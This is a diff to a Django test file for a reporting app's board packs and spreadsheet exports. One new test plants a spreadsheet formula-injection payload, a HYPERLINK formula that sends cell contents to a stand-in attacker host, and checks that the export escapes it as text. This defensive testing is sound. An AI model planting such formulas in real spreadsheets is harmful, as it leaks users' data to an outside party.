@@ -113,11 +113,21 @@ def test_only_secretaries_start_packs(users, area, login):
 
 def test_starting_a_pack_twice_explains_and_keeps_the_form(users, pack, login):
     response = login(users["secretary"]).post(
-        url("pack_create"), {"board": "JCB", "quarter": "2018-19-Q2", "meeting_date": "15/11/2018"}
+        url("pack_create"),
+        {
+            "board": "JCB",
+            "quarter": "2018-19-Q2",
+            "meeting_date_day": "15",
+            "meeting_date_month": "11",
+            "meeting_date_year": "2018",
+        },
     )
     assert response.status_code == 400
-    assert "There is already a JCB pack for Q2 2018/19" in response.content.decode()
-    assert 'value="15/11/2018"' in response.content.decode()
+    page = response.content.decode()
+    assert "There is already a JCB pack for Q2 2018/19" in page
+    # The date typed stays in its day, month and year boxes.
+    for name, value in (("day", "15"), ("month", "11"), ("year", "2018")):
+        assert f'name="meeting_date_{name}" type="text" inputmode="numeric" value="{value}"' in page
 
 
 def test_only_analysts_set_portfolio_ratings(users, carers, login):
@@ -434,6 +444,29 @@ def test_the_export_has_a_sheet_per_table_with_the_written_ratings(pack, login, 
     pack_text_save(pack=pack, text={}, exempt_sections=["highlights"])
     public = login(analyst).get(url("pack_export", pack) + "?version=public")
     assert openpyxl.load_workbook(io.BytesIO(public.content)).sheetnames == ["About", "Schemes"]
+
+
+def test_the_exports_write_dates_as_dates_and_never_a_formula(pack, ratings, login, analyst):
+    """The pack's workbook and the portfolio page's export are the formatted export: a bold,
+    frozen header, the day a rating was updated as a date, typed text never calculated."""
+    from bettercare.spreadsheets import DATE
+
+    hostile = ratings[1]
+    hostile.narrative = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    hostile.save()
+    client = login(analyst)
+    for content in (
+        client.get(url("pack_export", pack)).content,
+        client.get(url("portfolio") + "?quarter=2018-19-Q2&_export=xlsx").content,
+    ):
+        sheet = openpyxl.load_workbook(io.BytesIO(content))["Portfolio"]
+        assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
+        header = [cell.value for cell in sheet[1]]
+        carers_row = dict(zip(header, sheet[2], strict=True))
+        assert carers_row["Narrative"].value == "'" + hostile.narrative
+        assert carers_row["Narrative"].data_type == "s"
+        assert carers_row["Updated"].value.date() == hostile.updated.date()
+        assert carers_row["Updated"].number_format == DATE
 
 
 def test_portfolio_ratings_page_keeps_what_was_typed_and_saves(carers, clusters, login, analyst):
